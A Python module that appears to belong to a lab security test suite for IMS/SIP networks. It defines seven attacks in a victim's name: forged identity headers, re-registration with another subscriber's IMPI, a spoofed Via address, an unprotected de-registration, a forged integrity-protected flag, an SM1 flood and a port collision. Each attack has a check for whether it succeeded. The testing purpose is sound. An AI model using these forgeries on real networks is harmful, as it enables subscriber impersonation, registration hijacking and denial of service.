"""Attacks in a victim's name: by subscribers with genuine keys who lie, or by anybody, unprotected."""

from collections.abc import Callable
from dataclasses import replace
from typing import Final

from twopair.attack import forge
from twopair.attack.attack import Attack, both_register, registers
from twopair.attack.forge import sm1
from twopair.attack.moves import Inject, Notes
from twopair.attack.sight import Forged, Sight
from twopair.attack.stage import VICTIM, Stage
from twopair.base import Endpoint, Port, Spi
from twopair.core.secagree import Terms
from twopair.live.lab.plan import LabPlan
from twopair.nodes.facts import Deregistered, MessageReceived, Registered, RegistrationFailed
from twopair.wire.sip import Request, parse

_TERMS: Final = Terms(Spi(80_000), Spi(80_001), Port(41_002), Port(41_004))
_FLOOD: Final = 24
_ALLOWED: Final = 3
_IMSI: Final = "00101{:010d}"

Lie = Callable[[Request], None]


def lies(stage: Stage, method: str, lie: Lie, who: str = "ue2") -> None:
    """A UE says something else in its requests of one method."""

    def says(data: bytes) -> bytes:
        if not data.startswith(method.encode()):
            return data
        request = parse(data)
        assert isinstance(request, Request), "it begins with a method"
        lie(request)
        return request.to_bytes()

    stage[who].says = says


async def _writes_as_the_victim(stage: Stage) -> None:
    """UE 2 writes to the victim as the victim itself, over its own SAs."""
    await both_register(stage)
    claimed = f"<{stage.impu(1)}>"

    def lie(request: Request) -> None:
        request.set("From", f"{claimed};tag=lie")
        request.set("P-Preferred-Identity", claimed)
        request.set("P-Asserted-Identity", claimed)

    lies(stage, "MESSAGE", lie)
    await stage.message("ue2", stage.impu(1), "it is me")


def _asserted(stage: Stage) -> str:
    forged = stage[VICTIM].reported(MessageReceived, sender=stage.impu(1))
    return "the network vouches for an identity that is not the sender's" if forged else ""


async def reregisters_as_the_victim(stage: Stage) -> None:
    """UE 2 re-registers over its own SAs with the victim's identities."""
    await both_register(stage)
    theirs, ours = stage.card(1), stage.card(2)

    def lie(request: Request) -> None:
        for name in ("From", "To", "Authorization"):
            value = request.get(name) or ""
            request.set(name, value.replace(ours.impus[0], theirs.impus[0]).replace(ours.impi, theirs.impi))

    lies(stage, "REGISTER", lie)
    await stage.register("ue2")


def _stolen(stage: Stage) -> str:
    """The victim has registered once; whoever did so again has its Contact and its identities."""
    bindings = stage["home"].reported(Registered, impi=stage.impi())
    return "the victim's registration is UE 2's: its Contact, its identities" if bindings > 1 else ""


async def lies_on_its_address(stage: Stage) -> None:
    """UE 2 re-registers with the victim's address in Via."""
    await both_register(stage)
    victim = stage.plan.ues[0].config.address
    own = stage.plan.ues[1].config.address

    def lie(request: Request) -> None:
        via = request.pop_value("Via") or ""
        request.push("Via", via.replace(own, victim))

    lies(stage, "REGISTER", lie)
    await stage.register("ue2")


def _lie_was_taken(stage: Stage) -> str:
    twice = stage["pcscf"].reported(Registered, impi=stage.impi(2)) > 1
    return "a REGISTER that lies on its source was taken" if twice else ""


def _no_challenge(plan: LabPlan) -> LabPlan:
    """Protected re-registrations are believed without a challenge."""
    return replace(plan, home=replace(plan.home, challenge_refresh=False))


def _source(stage: Stage) -> Endpoint:
    return Endpoint(stage.plan.network.ue.format(201), _TERMS.port_c)


async def _deregisters(stage: Stage) -> None:
    """Somebody sends REGISTER with Expires 0 in the victim's name, in the clear."""
    await _leaves_for_the_victim(stage, {})


async def _leaves_for_the_victim(stage: Stage, credentials: dict[str, str]) -> None:
    await stage.register()
    changes = {"Contact": "*", "Expires": "0"}
    stage.put(
        forge.register(stage, 1, _source(stage), _TERMS, tag="bye", changes=changes, credentials=credentials)
    )
    await stage.wait(5)


async def _deregisters_with_a_lie(stage: Stage) -> None:
    await _leaves_for_the_victim(stage, {"integrity-protected": "yes"})


def _gone(stage: Stage) -> str:
    gone = stage["home"].reported(Deregistered, impi=stage.impi())
    return "the victim is no longer registered" if gone else ""


async def _floods(stage: Stage) -> None:
    """Many SM1 in the victim's name, each with other ports and SPIs; then somebody writes to the victim."""
    await both_register(stage)
    for number in range(_FLOOD):
        terms = Terms(
            Spi(90_000 + 2 * number),
            Spi(90_001 + 2 * number),
            Port(42_000 + 2 * number),
            Port(42_001 + 2 * number),
        )
        stage.put(forge.register(stage, 1, _source(stage), terms, tag=f"flood{number}"))
        await stage.wait(0.1)
    await stage.message("home", stage.impu(1), "still there")


def _flooded(stage: Stage) -> str:
    """The flood has an effect if sets pile up, or the victim's own one goes."""
    impi = stage.impi()
    piled = stage["pcscf"].most.get(impi, 0)
    if piled > _ALLOWED:
        return f"the P-CSCF held {piled} sets for one IMPI"
    reached = stage[VICTIM].reported(MessageReceived, body=b"still there")
    return "" if reached else "the victim cannot be reached any more"


def takes_the_port(seen: Sight, _notes: Notes) -> list[Forged]:
    """The victim's own SM1, but for another subscriber: the same address, and the same port_uc."""
    text = seen.text.decode().replace(_IMSI.format(1), _IMSI.format(2)).replace("z9hG4bK", "z9hG4bKa")
    text = text.replace("SIP/2.0/TCP", "SIP/2.0/UDP").replace("Call-ID: ", "Call-ID: a")
    return [Forged(seen.src, seen.dst, text.encode())]


def _shut_out(stage: Stage) -> str:
    node = stage[VICTIM]
    failed = node.reported(RegistrationFailed) and not node.reported(Registered)
    return "the victim is refused for a port that somebody else took on purpose" if failed else ""


ATTACKS: Final = (
    Attack(
        "MESSAGE with another's IMPU",
        "IMPU of another user in a protected request",
        "impersonation by a valid subscriber",
        "SA-25, PCS-10, ERR-20",
        ("PCS-10",),
        _writes_as_the_victim,
        _asserted,
    ),
    Attack(
        "REGISTER with another's IMPI",
        "IMPI of another user over own SA",
        "the victim's registration and identities are the thief's",
        "AGR-34, ERR-19, RRG-01",
        ("AGR-34", "RRG-01", "INT-02"),
        reregisters_as_the_victim,
        _stolen,
        change=_no_challenge,
    ),
    Attack(
        "REGISTER with another's address in Via",
        "source address spoofed",
        "a REGISTER hides where it comes from",
        "SA-24, ERR-22",
        ("SA-24",),
        lies_on_its_address,
        _lie_was_taken,
    ),
    Attack(
        "de-registration in the clear",
        "an unprotected REGISTER for a victim",
        "anybody can end anybody's registration",
        "UNP-03, UNP-05, INT-02, INT-05, INT-06, MGP-08",
        ("UNP-03",),
        _deregisters,
        _gone,
    ),
    Attack(
        'integrity-protected="yes" from outside',
        "integrity-protected forged by the UE",
        "the S-CSCF does without authentication",
        "INT-01",
        ("INT-01",),
        _deregisters_with_a_lie,
        _gone,
    ),
    Attack(
        "flood of SM1",
        "SM1 flood with a victim's identity",
        "temporary sets pile up until nobody else gets one, or push out the victim's own",
        "SA-22, MGP-04, MGP-05, MGP-08",
        ("MGP-04", "MGP-05"),
        _floods,
        _flooded,
    ),
    Attack(
        "port_uc taken",
        "port collision with a victim",
        "the victim is not registered",
        "SA-22, SA-27, ERR-09",
        ("ERR-09",),
        registers,
        _shut_out,
        (Inject(on=sm1, times=1, forge=takes_the_port, for_s=0.5),),
    ),
)
"""Rows 16 to 20, 23 and 24."""
